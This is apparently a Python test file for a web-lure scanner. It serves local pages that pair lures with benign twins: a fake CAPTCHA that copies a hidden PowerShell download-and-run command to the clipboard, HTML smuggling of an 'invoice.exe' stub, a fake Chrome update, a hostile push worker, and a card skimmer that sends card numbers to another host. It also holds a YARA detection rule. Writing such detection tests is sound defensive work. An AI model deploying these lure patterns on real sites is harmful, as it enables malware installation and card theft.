#!/usr/bin/env python3
"""Today's lures through `shikake inspect`, each beside an innocent twin: named, with evidence, and weighed."""
import http.server
import threading
import urllib.parse

import harness

PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(150)
MAKES_A_PROGRAM = ("var b = new Uint8Array(200); b[0] = 77; b[1] = 90; b[60] = 64; b[64] = 80; b[65] = 69;"
                   "var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([b]));"
                   "a.download = 'invoice.exe'; document.body.appendChild(a); a.click();")
FORM = "<form action=/pay><input name=card_number><input name=cvv><button>Pay</button></form>"

# What a page is like: "{a}" its own site, "{b}" another's. A bytes value is a file, a tuple a redirect.
SITES = {
    "/paste": "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p><button id=b>I'm not a "
              "robot</button><script>b.onclick = () => navigator.clipboard.writeText("
              "'powershell -w hidden -c \"iex (irm http://range.example/a)\"')</script>",
    "/paste-twin": "<h1>Install</h1><p>Open a terminal and paste:</p><pre id=c>curl -fsSL https://sh.example/i | sh</pre>"
                   "<button id=b>Copy</button><script>b.onclick = () => navigator.clipboard.writeText(c.textContent);"
                   "b.click()</script>",
    "/smuggle": "<body><script>" + MAKES_A_PROGRAM + "</script>",
    "/smuggle-twin": "<body><script>var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['a;b']));"
                     "a.download = 'table.csv'; document.body.appendChild(a); a.click()</script>",
    "/update": "<h1>Your Chrome is out of date</h1><a href={b}/ChromeSetup.exe>Update Chrome</a>",
    "/update-twin": "<h1>Chrome update available: what is new</h1><a href={b}/notes>Read about the update</a>",
    "/ChromeSetup.exe": PROGRAM,
    "/notes": "notes",
    "/prompt": "<p>Press Allow to watch the video</p><script>navigator.serviceWorker.register('/sw.js')"
               ".then(() => Notification.requestPermission())</script>",
    "/sw.js": "importScripts('{b}/push.js')",
    "/push.js": "self.addEventListener('push', e => clients.openWindow('http://ad.example/'))",
    "/prompt-twin": "<p>Calendar</p><script>navigator.serviceWorker.register('/own.js').then(() => "
                    "Notification.requestPermission())</script>",
    "/own.js": "self.addEventListener('fetch', () => {})",
    "/skim": FORM + "<script src={b}/lib.js></script>",
    "/lib.js": "document.forms[0].addEventListener('submit', () => { new Image().src = '{b}/i.gif?d=' + "
               "btoa(document.forms[0].card_number.value) })",
    "/i.gif": "x",
    "/skim-twin": FORM + "<script>document.forms[0].onsubmit = () => { navigator.sendBeacon('/count', 'paid') }</script>",
    "/count": "x",
    "/open": "<script>location = '/go?to=' + encodeURIComponent('{b}/notes')</script>",
    "/go": ("{b}/notes",),
    "/open-twin": "<script>location = '/go?to=42'</script>",
    "/tds": "<iframe src={b}/once></iframe>",
    "/tds-twin": "<iframe src={b}/always></iframe>",
    "/always": ("{a}/ChromeSetup.exe",),
}


class Site(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        known = SITES.get(path)
        if path == "/once":  # each visitor is shown something once
            known = SITES["/always"] if not self.server.shown else "nothing here"
            self.server.shown = True
        body = known if isinstance(known, bytes) else b""
        if isinstance(known, str):
            body = self.server.fill(known).encode()
        self.send_response(404 if known is None else 302 if isinstance(known, tuple) else 200)
        if isinstance(known, tuple):
            self.send_header("Location", self.server.fill(known[0]))
        self.send_header("Content-Type", "text/javascript" if path.endswith(".js") else
                         "application/octet-stream" if isinstance(known, bytes) else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


class Lures(harness.ProgramTest):
    def setUp(self):
        super().setUp()
        self.servers = [http.server.ThreadingHTTPServer((host, 0), Site) for host in ("127.0.0.1", "127.0.0.2")]
        names = [f"http://{server.server_address[0]}:{server.server_address[1]}" for server in self.servers]
        for server in self.servers:
            server.shown = False
            server.fill = lambda text: text.replace("{a}", names[0]).replace("{b}", names[1])
            threading.Thread(target=server.serve_forever, daemon=True).start()
            self.addCleanup(server.server_close)
            self.addCleanup(server.shutdown)
        self.site = names[0]

    def inspect(self, path, *arguments):
        [visit] = self.run_json("inspect", "--allow-private", *arguments, self.site + path)["visits"]
        return visit

    def test_each_is_found_and_its_twin_is_not(self):
        rows = {  # path: the verdict, the lure's name
            "/paste": ("malicious", "paste and run (T1204.004)"),
            "/smuggle": ("malicious", "HTML smuggling (T1027.006)"),
            "/update": ("malicious", "fake update (T1204.002)"),
            "/prompt": ("suspicious", "notification prompt"),
            "/skim": ("malicious", "form skimmer (T1056.003)"),
            "/open": ("benign", "open redirect"),
            "/tds": (None, "traffic distribution"),
        }
        for path, (verdict, lure) in rows.items():
            with self.subTest(path):
                visit = self.inspect(path)
                named = [event["detail"] for event in visit["events"] if event["kind"] == "lure"]
                self.assertTrue(any(one.startswith(lure + ": ") for one in named), named)
                if verdict:
                    self.assertEqual(visit["verdict"], verdict, visit["reasons"])
                if verdict == "malicious":
                    self.assertTrue(visit["reasons"], "evidence in words")
                    self.assertTrue(any(node["evidence"] for node in visit["nodes"]), "evidence at a node")
        for path in rows:
            with self.subTest(path + "-twin"):
                visit = self.inspect(path + "-twin")
                self.assertEqual([event["detail"] for event in visit["events"] if event["kind"] == "lure"], [])
                if path != "/tds":  # its twin hands out the program each time
                    self.assertEqual(visit["verdict"], "benign", visit["reasons"])

    def test_a_strangers_push_service_is_part_of_the_chain(self):
        visit = self.inspect("/prompt")
        urls = {node["id"]: node["url"] for node in visit["nodes"]}
        edges = {(edge["mechanism"], urls[edge["to"]].rsplit("/", 1)[1]) for edge in visit["edges"]}
        self.assertLessEqual({("worker", "sw.js"), ("worker", "push.js")}, edges)

    # Rules hold for lists and for the queue's jobs as for one visit.
    def test_rules_in_lists_and_in_jobs(self):
        rules = self.scratch / "rules"
        rules.mkdir()
        (rules / "one.yar").write_text('rule marker : suspicious { strings: $a = "Press Windows + R" condition: $a }')
        listed = self.write("urls.txt", f"{self.site}/paste\n{self.site}/notes\n")
        visits = self.run_json("inspect", "--allow-private", "--yara", rules, "--site-spacing", "0", "--list", listed)["visits"]
        matched = {one["url"].rsplit("/", 1)[1]: [e["detail"] for e in one["events"] if e["kind"] == "yara"]
                   for one in visits}
        self.assertTrue(matched["paste"] and "marker" in matched["paste"][0], matched)
        self.assertEqual(matched["notes"], [])
        help_text = self.run_program("work", "--help").stdout
        self.assertIn(b"--yara", help_text)
        self.run_program("work", "--until-idle", "--yara", self.scratch / "none", status=1)
        self.run_program("work", "--until-idle", "--kinds", "visit", "--yara", rules)


if __name__ == "__main__":
    harness.main()
